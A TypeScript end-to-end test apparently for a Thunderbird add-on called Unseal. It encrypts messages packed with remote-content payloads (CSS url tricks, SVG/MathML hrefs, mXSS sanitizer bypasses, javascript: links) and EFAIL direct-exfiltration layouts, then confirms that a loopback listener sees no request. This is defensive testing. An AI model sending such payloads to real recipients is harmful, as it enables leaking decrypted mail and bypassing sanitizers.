/**
 * The attacker's view, in a real Thunderbird 153: encrypted messages whose decrypted HTML tries
 * every way we know to make the mail client fetch something (images, srcset, CSS url()/@import/
 * @font-face, <link>, <meta refresh>, frames, media, SVG/MathML hrefs, forms, pings, <base>,
 * data: stylesheets, mixed-case / entity-encoded URLs, DOMPurify mXSS classics), plus the EFAIL
 * direct-exfiltration layouts (an unencrypted `<img src="…leak?` part before the encrypted part
 * and `">` after it, in multipart/mixed and multipart/alternative, CBC and GCM).
 *
 * Every URL points at a real HTTP listener on 127.0.0.1 (random port, loopback only) that records
 * each TCP connection and request. Each message is selected, Unseal's rendered report awaited, then
 * ~2.5 s of silence is required; every element of the rendered body is then clicked and 2 s more
 * of silence required. The DOM of the message document (through both closed shadow roots, read by
 * a privileged frame script) is checked for anything that could still load and for decrypted text
 * inside attributes. All of it runs twice: with Thunderbird's own remote-content blocking (the
 * default) and with it switched off (`mailnews.message_display.disable_remote_image=false`), where
 * a plain HTML message proves the listener is reachable from the message pane — so a silent
 * listener for Unseal's content means Unseal blocked it, not Thunderbird.
 *
 * link-click-confirm also records (without asserting) what happens to two HTML parts *inside* the
 * encryption: the renderer sanitizes them as one string (src/core/mime/content.ts joins them), so
 * an attribute left open in the first swallows the second's text into an inert link target.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startClamd, type ClamdHandle } from '../helpers/scanners/clamd.js';
import { ALICE } from '../helpers/smime-samples.js';
import { RESULTS_DIR, Thunderbird, builtXpi, scenario, waitFor, type DisplayReport, installHost } from '../helpers/thunderbird/index.js';
import { inMessagePane as paneScript } from '../helpers/thunderbird/frame-script.js';
import { importKeyThroughPage } from '../helpers/thunderbird/keys-page.js';

// ---------------------------------------------------------------------------------------------
// The attacker's listener: loopback only, records every connection and request.

interface Hit {
  at: number;
  method: string;
  url: string;
  headers: Record<string, string | string[] | undefined>;
}

interface Listener {
  readonly port: number;
  readonly hits: Hit[];
  /** Connections that never carried a request (preconnect, speculative connects), older than 500 ms. */
  bareConnections(): number;
  connections(): number;
  close(): Promise<void>;
}

const GIF = Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');

async function startListener(): Promise<Listener> {
  const hits: Hit[] = [];
  const sockets: { at: number; requests: number }[] = [];
  const server: Server = createServer((req, res) => {
    hits.push({ at: Date.now(), method: req.method ?? '', url: req.url ?? '', headers: { ...req.headers } });
    const s = (req.socket as unknown as { __unseal?: { requests: number } }).__unseal;
    if (s) s.requests++;
    const css = /css/i.test(req.url ?? '');
    res.writeHead(200, { 'Content-Type': css ? 'text/css' : 'image/gif', 'Cache-Control': 'no-store', Connection: 'close' });
    res.end(css ? 'body{}' : GIF);
  });
  server.on('connection', (sock) => {
    const rec = { at: Date.now(), requests: 0 };
    sockets.push(rec);
    (sock as unknown as { __unseal: typeof rec }).__unseal = rec;
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    // Loopback only: never any other address.
    server.listen(0, '127.0.0.1', () => resolve());
  });
  const a = server.address();
  const port = typeof a === 'object' && a ? a.port : 0;
  return {
    port,
    hits,
    connections: () => sockets.length,
    bareConnections: () => sockets.filter((s) => s.requests === 0 && Date.now() - s.at > 500).length,
    close: () => new Promise<void>((r) => (server.closeAllConnections(), server.close(() => r()))),
  };
}

// ---------------------------------------------------------------------------------------------
// Messages.

const CRLF = (s: string) => s.replace(/\r?\n/g, '\r\n');

interface Msg {
  readonly name: string;
  readonly subject: string;
  readonly messageId: string;
  readonly bytes: Buffer;
  /** Text that exists only inside the encryption and must be shown (clean messages). */
  readonly marker: string;
  /** Decrypted HTML is expected (else a text/plain body). */
  readonly html: boolean;
  /** Vector ids (the `/v/<id>` paths) this message tries. */
  readonly vectors: string[];
}

function transport(subject: string, messageId: string, from = 'Mallory Attacker <mallory@attacker.example>'): string {
  return CRLF(`From: ${from}\nTo: Alice Demo <alice@demo.example>\nSubject: ${subject}\nDate: Thu, 03 Dec 2026 10:00:00 +0000\nMessage-ID: <${messageId}>\nMIME-Version: 1.0\n`);
}

function htmlEntity(html: string): string {
  return CRLF('Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n') + CRLF(html);
}

function textEntity(text: string): string {
  return CRLF('Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n') + CRLF(text);
}

function multipart(subtype: 'mixed' | 'alternative', parts: string[], boundary: string): string {
  return CRLF(`Content-Type: multipart/${subtype}; boundary="${boundary}"\n\n`) + parts.map((p) => `--${boundary}\r\n${p.replace(/\r\n$/, '')}\r\n`).join('') + `--${boundary}--\r\n`;
}

/** An application/pkcs7-mime entity (headers + base64) holding `inner`, encrypted to ALICE with OpenSSL. */
function encryptEntity(dir: string, name: string, inner: string, cipher = '-aes256'): string {
  const i = join(dir, `${name}.inner`);
  const o = join(dir, `${name}.p7m`);
  writeFileSync(i, Buffer.from(inner, 'utf8'));
  execFileSync('openssl', ['cms', '-encrypt', '-binary', cipher, '-in', i, '-out', o, ALICE.cert]);
  // openssl writes its own MIME-Version; the transport headers carry one already.
  return CRLF(readFileSync(o, 'latin1').replace(/^MIME-Version: 1\.0\r?\n/m, ''));
}

function vectorIds(html: string): string[] {
  return [...new Set([...html.matchAll(/\/v\/([a-z0-9-]+)/gi)].map((m) => m[1]!))];
}

const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==';

/** The decrypted HTML of each vector message; `U(id)` is a listener URL naming the vector. */
function vectorPages(port: number): Record<string, { marker: string; html: string; text?: true }> {
  const H = `127.0.0.1:${port}`;
  const U = (id: string) => `http://${H}/v/${id}`;
  const svgDoc = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><image href="${U('img-data-svg')}" width="10" height="10"/></svg>`;
  const wrap = (marker: string, body: string) => `<!DOCTYPE html><html><head><title>t</title></head><body>\n<p>${marker} this paragraph exists only inside the encryption.</p>\n${body}\n<p>END-OF-BODY</p></body></html>`;
  const pages: Record<string, { marker: string; html: string; text?: true }> = {};
  const page = (name: string, marker: string, lines: string[]) => (pages[name] = { marker, html: wrap(marker, lines.join('\n')) });

  page('images', 'VEC-IMAGES-MARKER', [
    `<img src="${U('img-src')}" alt="img-src">`,
    `<img src="${PNG}" srcset="${U('img-srcset')} 2x" alt="srcset">`,
    `<img srcset="${U('img-srcset-only')} 1x, ${U('img-srcset-only-2x')} 2x" alt="srcset-only">`,
    `<img src="${PNG}" sizes="10px" srcset="${U('img-srcset-w')} 100w" alt="srcset-w">`,
    `<picture><source srcset="${U('picture-source')}" type="image/png"><source media="(min-width: 1px)" srcset="${U('picture-source-media')}"><img src="${U('picture-img')}" alt="picture"></picture>`,
    `<img lowsrc="${U('img-lowsrc')}" dynsrc="${U('img-dynsrc')}" src="${PNG}" alt="lowsrc">`,
    `<input type="image" src="${U('input-image')}" alt="input-image">`,
    `<IMG SRC="HtTp://${H}/v/img-mixed-case" ALT="mixed-case">`,
    `<img src="&#104;&#116;&#116;&#112;&#58;&#47;&#47;${H}/v/img-entity-dec" alt="entity-dec">`,
    `<img src="&#x68;&#x74;&#x74;&#x70;&#x3A;&#x2F;&#x2F;${H}/v/img-entity-hex" alt="entity-hex">`,
    `<img src="&#0000104;ttp&colon;//${H}/v/img-entity-named" alt="entity-named">`,
    `<img src="  \n\t http://${H}/v/img-whitespace  " alt="whitespace">`,
    `<img src="ht&#9;tp://${H}/v/img-tab-in-scheme" alt="tab">`,
    `<img src=http://${H}/v/img-unquoted alt=unquoted>`,
    `<img/src="${U('img-slash-separator')}"/alt="slash">`,
    `<img src="//${H}/v/img-protocol-relative" alt="protocol-relative">`,
    `<img src="http://2130706433:${port}/v/img-decimal-ip" alt="decimal-ip">`,
    `<img src="http://0x7f.1:${port}/v/img-hex-ip" alt="hex-ip">`,
    `<image src="${U('image-tag-alias')}" alt="image-alias">`,
    `<img src="${PNG}" src="${U('img-duplicate-src')}" alt="duplicate">`,
    `<img src="data:image/svg+xml;charset=utf-8,${encodeURIComponent(svgDoc)}" alt="svg-data">`,
    `<img src="${PNG.slice(0, 30)}&#10;${U('img-data-suffix')}" alt="data-suffix">`,
    `<img src="${U('img-lazy')}" loading="lazy" alt="lazy">`,
    `<img src="${U('img-crossorigin')}" crossorigin="use-credentials" referrerpolicy="unsafe-url" alt="cors">`,
    `<map name="m1"><area shape="rect" coords="0,0,10,10" href="${U('area-href')}" ping="${U('area-ping')}" alt="area"></map><img src="${PNG}" usemap="#m1" width="10" height="10" alt="usemap">`,
    `<img src="${PNG}" alt="inline data image (allowed, must not reach the network)">`,
  ]);

  page('style-attr', 'VEC-STYLE-ATTR-MARKER', [
    `<div style="background:url(${U('style-bg')});width:40px;height:10px">a</div>`,
    `<div style="background-image:url('${U('style-bg-image')}');width:40px;height:10px">b</div>`,
    `<div style="background:URL(&quot;${U('style-upper-url')}&quot;);width:40px;height:10px">c</div>`,
    `<div style="background:u\\72l(${U('style-css-escape')});width:40px;height:10px">d</div>`,
    `<div style="background:u&#114;l(${U('style-entity')});width:40px;height:10px">e</div>`,
    `<div style="background:url&#40;${U('style-entity-paren')}&#41;;width:40px;height:10px">f</div>`,
    `<div style="background:url(/* c */${U('style-comment')});width:40px;height:10px">g</div>`,
    `<ul style="list-style-image:url(${U('style-list-image')})"><li>h</li></ul>`,
    `<div style="cursor:url(${U('style-cursor')}),auto">i</div>`,
    `<div style="border:10px solid;border-image:url(${U('style-border-image')}) 30 round">j</div>`,
    `<div style="mask-image:url(${U('style-mask')});width:40px;height:10px">k</div>`,
    `<div style="filter:url(${U('style-filter')}#f)">l</div>`,
    `<div style="background:image-set(&quot;${U('style-image-set')}&quot; 1x);width:40px;height:10px">m</div>`,
    `<div style="background:-webkit-image-set(url(${U('style-webkit-image-set')}) 1x);width:40px;height:10px">n</div>`,
    `<div style="background:-moz-image-rect(url(${U('style-image-rect')}),0,0,1,1);width:40px;height:10px">o</div>`,
    `<div style="--x:url(${U('style-custom-prop')});background:var(--x);width:40px;height:10px">p</div>`,
    `<div style="--p:url;--q:(${U('style-var-split')});background-image:var(--p)var(--q);width:40px;height:10px">q</div>`,
    `<div style="--p:url;--q:(&quot;${U('style-var-split-string')}&quot;);background-image:var(--p)var(--q);width:40px;height:10px">r</div>`,
    `<div title="${U('style-attr-func')}" style="background-image:attr(title url);width:40px;height:10px">s</div>`,
    `<div style="behavior:url(${U('style-behavior')});-moz-binding:url(${U('style-binding')})">t</div>`,
    `<div style="background-image:&#x75;&#x72;&#x6c;&#x28;${U('style-hex-entities')}&#x29;;width:40px;height:10px">u</div>`,
    `<span style="shape-outside:url(${U('style-shape-outside')});float:left;width:10px;height:10px">v</span>`,
    `<div style="content:url(${U('style-content')})">w</div>`,
    `<table background="${U('table-background')}"><tr><td background="${U('td-background')}">x</td></tr></table>`,
    `<div background="${U('div-background')}">y</div>`,
    `<font style="background:url(${U('font-style')})">z</font>`,
  ]);

  page('style-element', 'VEC-STYLE-ELEMENT-MARKER', [
    `<style>@import url(${U('css-import-url')});</style>`,
    `<style>@import "${U('css-import-string')}";</style>`,
    `<style>@import url(${U('css-import-layer')}) layer(x);</style>`,
    `<style>@import url("data:text/css,@import url(${U('css-import-data')});");</style>`,
    `<style>.a1{background:url(${U('css-rule-url')})}</style>`,
    `<style>@font-face{font-family:leak;src:url(${U('css-font-face')}) format("woff")} .f1{font-family:leak}</style>`,
    `<style>@media all{.a2{background-image:url(${U('css-media')})}}</style>`,
    `<style>@supports (display:block){.a9{background:url(${U('css-supports')})}}</style>`,
    `<style>@layer l{.a10{background:url(${U('css-layer')})}}</style>`,
    `<style>@namespace url(${U('css-namespace')});</style>`,
    `<style>@\\69mport url(${U('css-escaped-import')});</style>`,
    `<style>.a3{background:u\\72l(${U('css-escaped-url')})}</style>`,
    `<style>.a4{--p:url;--q:(${U('css-var-split')});background-image:var(--p)var(--q)}</style>`,
    `<style>.a5{--p:url;--q:("${U('css-var-split-string')}");background-image:var(--p)var(--q)}</style>`,
    `<style>.a6{background:image-set("${U('css-image-set')}" 1x)}</style>`,
    `<style>.a7{list-style:square url(${U('css-list-style')})}</style>`,
    `<style>.a8::before{content:url(${U('css-before-content')})}</style>`,
    `<style>.a11{background:url(${U('css-unterminated')})</style>`,
    `<style>/*</style><img src="${U('css-comment-breakout')}" alt="breakout">*/</style>`,
    `<style>.a12{background-image:attr(title url)}</style>`,
    `<style>:host{background:red} .a13{background:u/**/rl(${U('css-comment-split')})}</style>`,
    `<div class="a1 a2 a3 a4 a5 a6 a8 a9 a10 a12 a13 f1" title="${U('css-attr-func')}" style="width:60px;height:20px">styled</div>`,
    `<ul class="a7"><li>listed</li></ul>`,
  ]);

  page('link-meta-base', 'VEC-LINK-META-MARKER', [
    `<link rel="stylesheet" href="${U('link-stylesheet')}">`,
    `<LINK REL="StyleSheet" HREF="${U('link-stylesheet-case')}">`,
    `<link rel="alternate stylesheet" title="x" href="${U('link-alt-stylesheet')}">`,
    `<link rel="prefetch" href="${U('link-prefetch')}">`,
    `<link rel="preload" as="style" href="${U('link-preload')}">`,
    `<link rel="preload" as="image" imagesrcset="${U('link-preload-imagesrcset')} 1x">`,
    `<link rel="modulepreload" href="${U('link-modulepreload')}">`,
    `<link rel="dns-prefetch" href="//${H}/v/link-dns-prefetch">`,
    `<link rel="preconnect" href="http://${H}/v/link-preconnect">`,
    `<link rel="icon" href="${U('link-icon')}">`,
    `<link rel="stylesheet" href="data:text/css,${encodeURIComponent(`@import url(${U('link-data-css-import')}); body{background:url(${U('link-data-css-url')})}`)}">`,
    `<meta http-equiv="refresh" content="0;url=${U('meta-refresh')}">`,
    `<meta http-equiv="Refresh" content="1; URL='${U('meta-refresh-case')}'">`,
    `<meta http-equiv="Link" content="<${U('meta-link-header')}>; rel=stylesheet">`,
    `<base href="http://${H}/v/base-href/"><img src="base-relative.png" alt="base-relative"><a href="base-relative-link">base relative link</a>`,
  ]);

  page('frames-media', 'VEC-FRAMES-MEDIA-MARKER', [
    `<iframe src="${U('iframe-src')}" width="20" height="20"></iframe>`,
    `<iframe srcdoc="<img src='${U('iframe-srcdoc')}'>"></iframe>`,
    `<iframe src="data:text/html,${encodeURIComponent(`<img src="${U('iframe-data')}">`)}"></iframe>`,
    `<frame src="${U('frame-src')}">`,
    `<frameset><frame src="${U('frameset-frame')}"></frameset>`,
    `<object data="${U('object-data')}" type="text/html" width="20" height="20"></object>`,
    `<object type="application/x-shockwave-flash"><param name="movie" value="${U('object-param')}"></object>`,
    `<embed src="${U('embed-src')}" type="image/png">`,
    `<applet code="X" codebase="${U('applet-codebase')}"></applet>`,
    `<video poster="${U('video-poster')}" src="${U('video-src')}" preload="auto" width="20" height="20"></video>`,
    `<video preload="auto"><source src="${U('video-source')}" type="video/mp4"><track kind="subtitles" src="${U('video-track')}" default></video>`,
    `<audio src="${U('audio-src')}" preload="auto" autoplay></audio>`,
    `<audio preload="auto"><source src="${U('audio-source')}"></audio>`,
    `<bgsound src="${U('bgsound')}">`,
    `<portal src="${U('portal')}"></portal>`,
    `<object><img src="${U('object-fallback-img')}" alt="object-fallback"></object>`,
  ]);

  page('svg-math', 'VEC-SVG-MATH-MARKER', [
    `<svg width="40" height="40" xmlns:xlink="http://www.w3.org/1999/xlink">`,
    ` <image href="${U('svg-image-href')}" width="10" height="10"/>`,
    ` <image xlink:href="${U('svg-image-xlink')}" width="10" height="10"/>`,
    ` <image src="${U('svg-image-src')}" width="10" height="10"/>`,
    ` <use href="${U('svg-use')}#a"/>`,
    ` <use xlink:href="${U('svg-use-xlink')}#a"/>`,
    ` <filter id="f1"><feImage href="${U('svg-feimage')}"/></filter>`,
    ` <rect width="10" height="10" fill="url(${U('svg-fill')}#g)" filter="url(${U('svg-filter-attr')}#f)" mask="url(${U('svg-mask-attr')}#m)" clip-path="url(${U('svg-clip-attr')}#c)"/>`,
    ` <rect width="10" height="10" style="fill:url(${U('svg-style-fill')}#g)"/>`,
    ` <path d="M0 0L5 5" stroke="black" marker-end="url(${U('svg-marker')}#m)"/>`,
    ` <a xlink:href="${U('svg-a')}"><text y="10">svg link</text></a>`,
    ` <image width="5" height="5"><set attributeName="href" to="${U('svg-set')}"/></image>`,
    ` <image width="5" height="5"><animate attributeName="href" values="${U('svg-animate')}" dur="1s"/></image>`,
    ` <rect width="5" height="5"><animate attributeName="fill" values="url(${U('svg-animate-fill')}#g)" dur="1s"/></rect>`,
    ` <foreignObject width="10" height="10"><img src="${U('svg-foreignobject')}" alt="fo"></foreignObject>`,
    ` <style>@im<script>x</script>port "${U('svg-style-split')}";</style>`,
    ` <style>rect{fill:url(${U('svg-style-element')}#g)}</style>`,
    ` <style>&#64;import url(${U('svg-style-entity-import')});</style>`,
    ` <pattern id="p"><image href="${U('svg-pattern-image')}"/></pattern>`,
    ` <g xml:base="http://${H}/v/svg-xml-base/"><image href="rel.png" width="5" height="5"/></g>`,
    ` <script href="${U('svg-script')}"></script>`,
    ` <text><tref xlink:href="${U('svg-tref')}#t"/></text>`,
    ` <lineargradient id="lg" href="${U('svg-gradient-href')}#x"></lineargradient>`,
    `</svg>`,
    `<math><mi xlink:href="${U('math-xlink')}">x</mi><mtext href="${U('math-href')}">y</mtext><maction actiontype="statusline" xlink:href="${U('math-maction')}">z</maction></math>`,
  ]);

  page('forms-links', 'VEC-FORMS-LINKS-MARKER', [
    `<form action="${U('form-action')}" method="get"><input name="q" value="VEC-FORMS-LINKS-MARKER"><button type="submit">Submit-Button</button><input type="submit" value="Submit-Input"></form>`,
    `<form id="f2" action="${U('form-action-post')}" method="post"><button>Post-Button</button></form>`,
    `<button form="f2" formaction="${U('button-formaction')}">FormAction-Button</button>`,
    `<isindex action="${U('isindex')}">`,
    `<p><a href="${U('a-ping-target')}" ping="${U('a-ping')}">Ping-Link</a></p>`,
    `<p><a href="${U('a-download')}" download="x.txt">Download-Link</a></p>`,
    `<p><a href="${U('a-target-blank')}" target="_blank" rel="opener">Blank-Link</a></p>`,
    `<p><a href="javascript:location='${U('a-javascript')}'">JS-Link</a></p>`,
    `<p><a href="data:text/html,%3Cimg%20src%3D${encodeURIComponent(U('a-data-html'))}%3E">Data-Link</a></p>`,
    `<p><a href="${U('link-real-target')}" title="https://bank.example/login">https://bank.example/login</a></p>`,
    `<p><a href="#sec1">Anchor-Link</a></p><h2 id="sec1">Section</h2>`,
    `<details open ontoggle="location='${U('ontoggle')}'"><summary>Summary</summary>details</details>`,
    `<p><label>Label <input type="text" value="x"></label></p>`,
    `<div data-unseal-href="${U('own-marker-attr')}" data-unseal-anchor="x">Forged-Marker-Div</div>`,
    `<p><a data-unseal-href="${U('own-marker-attr-a')}" href="${U('own-marker-real')}">Forged-Marker-Link</a></p>`,
  ]);

  page('mxss', 'VEC-MXSS-MARKER', [
    `<noscript><p title="</noscript><img src=${U('mxss-noscript')}>"></p></noscript>`,
    `<svg></p><style><a id="</style><img src=${U('mxss-svg-style')}>"></a></style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=${U('mxss-math')}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=${U('mxss-form')}>`,
    `<svg><p><style><img src=${U('mxss-svg-p')}></style></p></svg>`,
    `<template><img src="${U('template')}"></template>`,
    `<textarea><img src="${U('textarea')}"></textarea>`,
    `<xmp><img src="${U('xmp')}"></xmp>`,
    `<noembed><img src="${U('noembed')}"></noembed>`,
    `<noframes><img src="${U('noframes')}"></noframes>`,
    `<!--<img src="${U('comment')}">-->`,
    `<![CDATA[<img src="${U('cdata')}">]]>`,
    `<select><option><img src="${U('select-img')}"></option></select>`,
    `<p id="<img src=${U('attr-text')}>">q</p>`,
  ]);

  pages['text-body'] = {
    marker: 'VEC-TEXT-BODY-MARKER',
    text: true,
    html: `VEC-TEXT-BODY-MARKER a text/plain body with URLs: ${U('text-plain-url')} and <img src="${U('text-plain-tag')}"> and www.127.0.0.1.nip.io`,
  };
  return pages;
}

// ---------------------------------------------------------------------------------------------

interface Inspection {
  url: string;
  gate: boolean;
  kind: string | null;
  htmlBody: boolean;
  textBody: boolean;
  bodyText: string;
  unprotectedNote: string | null;
  /** Light-DOM nodes besides Unseal's host (Thunderbird's own rendering, if any were left). */
  tbNodes: string[];
  /** Attributes anywhere (document and both shadow roots) whose value names the listener. */
  attrs: { where: string; tag: string; name: string; value: string }[];
  styles: { where: string; text: string }[];
  markerAttrs: { where: string; tag: string; name: string; marker: string }[];
  markerStyles: { where: string; marker: string }[];
  /** Elements inside the message body's shadow root that are able to load anything. */
  loaders: { tag: string; attrs: string; src: string | null }[];
  resources: string[];
  gateText: string;
  docText: string;
}

const INSPECT = `(content, a) => {
  const doc = content.document;
  const gate = doc.querySelector("unseal-gate");
  const groot = gate && gate.openOrClosedShadowRoot;
  const out = { url: doc.URL, gate: !!gate, kind: null, htmlBody: false, textBody: false, bodyText: "", unprotectedNote: null,
    tbNodes: [], attrs: [], styles: [], markerAttrs: [], markerStyles: [], loaders: [], resources: [], gateText: "", docText: "" };
  if (doc.body) for (const n of Array.from(doc.body.childNodes)) {
    if (n === gate) continue;
    if (n.nodeType === 3 && !n.textContent.trim()) continue;
    out.tbNodes.push(n.nodeName);
  }
  const has = (v) => a.needles.some((n) => v.includes(n));
  const LOADERS = new Set(["img","image","iframe","frame","frameset","object","embed","video","audio","source","track","link","meta","base","input",
    "form","button","use","feimage","picture","applet","portal","bgsound","script","foreignobject","set","animate","param","area","map","math","isindex"]);
  const visit = (root, where) => {
    for (const el of Array.from(root.querySelectorAll("*"))) {
      const tag = el.localName;
      for (const at of Array.from(el.attributes)) {
        if (has(at.value)) out.attrs.push({ where, tag, name: at.name, value: at.value.slice(0, 200) });
        for (const m of a.markers) if (at.value.includes(m)) out.markerAttrs.push({ where, tag, name: at.name, marker: m });
      }
      if (tag === "style") {
        const t = el.textContent || "";
        if (has(t)) out.styles.push({ where, text: t.slice(0, 200) });
        for (const m of a.markers) if (t.includes(m)) out.markerStyles.push({ where, marker: m });
      }
      if (where.includes("body-html") && LOADERS.has(tag)) out.loaders.push({ tag, attrs: Array.from(el.attributes).map((x) => x.name).join(" "), src: el.getAttribute("src") });
      const sr = el.openOrClosedShadowRoot;
      if (sr) visit(sr, where + ">" + tag + (el.getAttribute("class") ? "." + el.getAttribute("class").trim().split(/\\s+/).join(".") : ""));
    }
  };
  visit(doc, "document");
  if (groot) {
    const u = groot.querySelector(".unseal");
    out.kind = u ? u.dataset.kind : null;
    const hb = groot.querySelector(".body-html");
    const tbody = groot.querySelector(".body-text");
    const note = groot.querySelector("p.unprotected");
    out.unprotectedNote = note ? note.textContent : null;
    let inner = "";
    if (hb) {
      out.htmlBody = true;
      const r = hb.openOrClosedShadowRoot;
      const mb = r && r.querySelector(".message-body");
      out.bodyText = mb ? mb.innerText : "";
      inner = r ? r.textContent : "";
    } else if (tbody) {
      out.textBody = true;
      out.bodyText = tbody.textContent;
    }
    out.gateText = groot.textContent + "\\n" + inner;
  }
  out.docText = doc.body ? Array.from(doc.body.childNodes).filter((n) => n !== gate).map((n) => n.textContent).join(" ") : "";
  out.resources = content.performance.getEntriesByType("resource").map((e) => e.name).filter((n) => !/^(chrome|resource|moz-extension):/.test(n));
  return out;
}`;

/** Dispatches a trusted click on every element of the rendered body (and Enter on links); closes the link bar each time. */
const CLICK_ALL = `(content) => {
  const gate = content.document.querySelector("unseal-gate");
  const groot = gate.openOrClosedShadowRoot;
  const hb = groot.querySelector(".body-html") || groot.querySelector(".body-text");
  if (!hb) return { clicked: 0, linkTargets: [], url: content.document.URL };
  const root = hb.openOrClosedShadowRoot || hb;
  const els = Array.from(root.querySelectorAll("*"));
  const bar = groot.querySelector(".linkbar");
  const targets = [];
  for (const el of els) {
    el.dispatchEvent(new content.MouseEvent("click", { bubbles: true, cancelable: true, composed: true, view: content }));
    if (el.localName === "a") el.dispatchEvent(new content.KeyboardEvent("keydown", { key: "Enter", bubbles: true, cancelable: true, composed: true }));
    if (bar && !bar.hidden) {
      targets.push(bar.querySelector(".url").textContent);
      bar.querySelector("button.cancel").click();
    }
  }
  return { clicked: els.length, linkTargets: targets, url: content.document.URL };
}`;

describe('EFAIL and remote content in Thunderbird: Unseal renders decrypted HTML inert', () => {
  let tb: Thunderbird;
  let clamd: ClamdHandle;
  let listener: Listener;
  let dir: string;
  const vectorMsgs: Msg[] = [];
  const efailMsgs: (Msg & { secret: string; unprotected: string })[] = [];
  let plainHtml: Msg;
  let stitch: Msg;
  const evidence: Record<string, unknown> = {};

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'unseal-e2e-efail-'));
    listener = await startListener();
    const port = listener.port;
    const H = `127.0.0.1:${port}`;
    const id = (n: string) => `${n}@efail.unseal.example`;

    // One encrypted message per vector family: the path of any request names the vector.
    for (const [name, p] of Object.entries(vectorPages(port))) {
      const inner = p.text ? textEntity(p.html) : htmlEntity(p.html);
      const subject = `[efail] vectors ${name}`;
      vectorMsgs.push({ name, subject, messageId: id(`vec-${name}`), bytes: Buffer.from(transport(subject, id(`vec-${name}`)) + encryptEntity(dir, `vec-${name}`, inner), 'latin1'), marker: p.marker, html: !p.text, vectors: vectorIds(p.html) });
    }

    // EFAIL direct exfiltration: the attacker wraps the captured ciphertext in unencrypted parts.
    const secretHtml = (s: string) => `<html><body><p>${s} the launch code is 0451-7781.</p><p>Regards, Bob</p></body></html>`;
    const efail = (name: string, secret: string, build: (enc: (cipher?: string) => string, prefix: string) => string, prefixTag: string, cipher?: string) => {
      const unprotected = 'UNPROTECTED-PART-MARKER';
      const subject = `[efail] direct exfiltration ${name}`;
      const enc = (c = cipher ?? '-aes256') => encryptEntity(dir, `efail-${name}`, htmlEntity(secretHtml(secret)), c);
      const prefix = htmlEntity(`<html><body><p>${unprotected} (attacker's unencrypted part)</p>${prefixTag}`);
      const body = build(enc, prefix);
      efailMsgs.push({ name, subject, messageId: id(`efail-${name}`), bytes: Buffer.from(transport(subject, id(`efail-${name}`)) + body, 'latin1'), marker: secret, secret, unprotected, html: true, vectors: [`leak/${name}`] });
    };
    const suffix = htmlEntity('">');
    // 1. multipart/mixed: <img src="…leak? | encrypted (AES-CBC) | ">
    efail('mixed', 'EFAIL-SECRET-MIXED', (enc, prefix) => multipart('mixed', [prefix, enc(), suffix], 'efail-mixed-b'), `<img src="http://${H}/leak/mixed?`);
    // 2. multipart/alternative, AES-GCM (AuthEnvelopedData): <img src="…leak? | encrypted | ">
    efail('alternative-gcm', 'EFAIL-SECRET-ALT', (enc, prefix) => multipart('alternative', [prefix, enc(), suffix], 'efail-alt-b'), `<img src="http://${H}/leak/alternative-gcm?`, '-aes-256-gcm');
    // 3. multipart/mixed with the encrypted part inside multipart/alternative, an <a href="…leak? prefix.
    efail('mixed-in-alternative', 'EFAIL-SECRET-NESTED', (enc, prefix) =>
      multipart('mixed', [prefix, multipart('alternative', [textEntity('see the HTML part'), enc()], 'efail-nested-alt'), suffix], 'efail-nested-b'),
      `<a href="http://${H}/leak/mixed-in-alternative?`);

    // Two decrypted HTML parts: can the first part's open attribute swallow the second? (recorded)
    {
      const subject = '[efail] decrypted parts stitched';
      const inner = multipart('mixed', [htmlEntity(`<p>STITCH-PART-ONE</p><a href="http://${H}/v/inner-stitch?q=`), htmlEntity('STITCH-SECRET-MARKER">click</a>')], 'stitch-b');
      stitch = { name: 'stitch', subject, messageId: id('stitch'), bytes: Buffer.from(transport(subject, id('stitch')) + encryptEntity(dir, 'stitch', inner), 'latin1'), marker: 'STITCH-PART-ONE', html: true, vectors: ['inner-stitch'] };
    }

    // A plain (unencrypted) HTML message with remote content: Thunderbird's own business.
    {
      const subject = '[efail] plain html with remote images';
      const body = htmlEntity(`<html><body><p>PLAIN-HTML-MARKER not encrypted.</p><img src="http://${H}/plain/img.png" alt="plain"><div style="background:url(http://${H}/plain/bg.png);width:20px;height:20px"></div></body></html>`);
      plainHtml = { name: 'plain', subject, messageId: id('plain'), bytes: Buffer.from(transport(subject, id('plain'), 'Newsletter <news@plain.example>') + body, 'utf8'), marker: 'PLAIN-HTML-MARKER', html: true, vectors: [] };
    }

    clamd = await startClamd({ alertExceedsMax: true });
    tb = await Thunderbird.start({
      xpi: builtXpi(),
      p7mExternal: true,
      messages: [...vectorMsgs, ...efailMsgs, stitch, plainHtml].map((m) => new Uint8Array(m.bytes)),
      beforeLaunch: (p) => {
        installHost(p.home, clamd.url);
      },
    });
    await tb.waitForBackground(60_000);
    await importKeyThroughPage(tb, ALICE.p12, ALICE.pass);
    mkdirSync(RESULTS_DIR, { recursive: true });
  }, 300_000);

  afterAll(async () => {
    try {
      writeFileSync(join(RESULTS_DIR, 'efail-evidence.json'), JSON.stringify({ port: listener?.port, hits: listener?.hits, connections: listener?.connections(), ...evidence }, null, 2) + '\n');
    } catch {
      // evidence is best effort
    }
    await tb?.stop();
    await clamd?.stop();
    await listener?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  }, 60_000);

  const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

  const inMessagePane = <T>(fn: string, args: unknown = null, timeoutMs = 20_000) => paneScript<T>(tb, fn, args, timeoutMs);

  function setRemoteContentBlocked(blocked: boolean): Promise<void> {
